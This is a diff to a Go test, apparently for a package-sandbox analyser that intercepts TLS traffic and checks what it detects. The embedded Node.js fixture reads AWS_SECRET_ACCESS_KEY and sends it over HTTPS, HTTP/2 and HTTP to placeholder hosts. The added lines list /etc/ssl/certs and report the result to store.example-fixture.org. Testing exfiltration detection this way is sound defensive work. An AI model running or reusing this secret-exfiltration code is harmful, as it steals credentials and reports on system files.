@@ -28,7 +28,9 @@ import (
 // nodeTLSExfil POSTs AWS_SECRET_ACCESS_KEY over HTTPS three ways at
 // start-up: with fetch, in base64 inside a JSON body; with https.request,
 // raw inside a JSON body; over HTTP/2, in base64 as the whole body. Then
-// it sends the reference copy (see exfilRefKey) over plain HTTP.
+// it reports what its trust store holds (the files of /etc/ssl/certs and
+// the certificates in the bundle) and sends the reference copy (see
+// exfilRefKey), both over plain HTTP.
 const nodeTLSExfil = `
 const s = process.env.AWS_SECRET_ACCESS_KEY;
 const https = require('https'), http2 = require('http2');
@@ -54,6 +56,11 @@ const b64 = Buffer.from(s).toString('base64');
     q.on('error', end); q.on('end', end); q.resume();
     q.end(b64);
   });
+  const fs = require('fs');
+  const store = fs.readdirSync('/etc/ssl/certs').join(',');
+  const certs = (fs.readFileSync('/etc/ssl/certs/ca-certificates.crt', 'utf8').match(/BEGIN CERTIFICATE/g) || []).length;
+  await new Promise(done => require('http').get({host: 'store.example-fixture.org', path: '/store/' + store + '/' + certs, timeout: 3000},
+    res => { res.resume(); res.on('end', done); }).on('error', done));
   const key = Buffer.from('` + exfilRefKey + `', 'hex');
   const ref = Buffer.from(s).map((b, i) => b ^ key[i]);
   require('http').get({host: 'ref.example-fixture.org', path: '/r/' + ref.toString('hex'), timeout: 3000}, res => res.resume()).on('error', () => {});
@@ -118,6 +125,15 @@ func TestTLSBodiesRead(t *testing.T) {
 		if !strings.Contains(n.Preview, "[canary:aws_secret_access_key") {
 			t.Errorf("%s: preview %q does not show the masked canary", host, n.Preview)
 		}
+	}
+	var store string
+	for _, n := range b.Behavior.Network {
+		if n.HTTPHost == "store.example-fixture.org" {
+			store = n.HTTPTarget
+		}
+	}
+	if store != "/store/ca-certificates.crt/1" {
+		t.Errorf("the package's trust store: %q, want the run's CA alone (/store/ca-certificates.crt/1)", store)
 	}
 	if n := requests["h2.example-cdn.net"]; n.ALPN != "h2" {
 		t.Errorf("h2.example-cdn.net: ALPN %q, want h2", n.ALPN)
